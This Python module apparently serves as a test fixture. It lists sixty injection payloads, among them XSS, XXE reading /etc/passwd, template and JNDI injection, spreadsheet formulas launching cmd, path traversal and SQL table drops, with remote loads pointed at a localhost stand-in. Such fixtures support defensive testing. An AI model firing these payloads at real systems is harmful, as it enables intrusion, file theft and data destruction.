"""Sixty texts that try to become markup, script, a formula or a path, in groups that fit into one text field."""

from __future__ import annotations

HOST = "http://127.0.0.1:9"
PAYLOADS = (
    # elements that run or load
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<SCRIPT SRC=//127.0.0.1:9/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>", "<img src=x onerror=alert(4)>", "<img/src/onerror=alert(5)>",
    "<svg onload=alert(6)>", "<svg><script>alert(7)</script></svg>", "<svg><animate onbegin=alert(8) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(9)>'/></svg>", "<body onload=alert(10)>",
    "<iframe src=javascript:alert(11)></iframe>", f"<iframe src={HOST}/></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>", f"<object data={HOST}/x.swf></object>",
    f"<embed src={HOST}/x>", f"<link rel=stylesheet href={HOST}/x.css>", "<style>*{display:none}</style>",
    f"<style>@import '{HOST}/x.css';</style>", f"<video src={HOST}/x onerror=alert(13)></video>",
    # what moves the page or its links
    f"<base href={HOST}/>", f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", f"<form action={HOST}/><input name=a>",
    "<a href='javascript:alert(14)'>x</a>", "<a href=\"data:text/html,<script>alert(15)</script>\">x</a>",
    "javascript:alert(16)", "JaVaScRiPt:alert(17)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    # out of an attribute, a comment, a template, another language
    "\"><svg onload=alert(18)>", "' onmouseover='alert(19)' autofocus onfocus='alert(20)", "\" style=\"position:fixed;inset:0",
    "`onmouseover=alert(21)`", "<!-- --!><script>alert(22)</script>", "<!--", "-->", "]]>", "<![CDATA[<script>alert(23)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "{{ 7*7 }}{% raw %}", "{{ config.__class__.__init__.__globals__ }}", "${7*7}", "#{7*7}", "${jndi:ldap://127.0.0.1:9/a}",
    "&lt;script&gt;alert(24)&lt;/script&gt;", "&#60;script&#62;alert(25)&#60;/script&#62;", "\\u003cscript\\u003ealert(26)\\u003c/script\\u003e",
    "<math><mi//xlink:href='data:x,<script>alert(27)</script>'>", "<details open ontoggle=alert(28)>",
    # formulas, paths, expressions of QGIS, queries
    "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://127.0.0.1:9/\",\"x\")",
    "../../../../etc/passwd", "[% layer_property(@layer, 'path') %]", "'); DROP TABLE observations; --", "%00%0d%0aSet-Cookie: a=b",
    "/vsicurl/http://127.0.0.1:9/x.tif",
)  # fmt: skip
GROUPS = [" ".join(PAYLOADS[start : start + 15]) for start in range(0, len(PAYLOADS), 15)]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
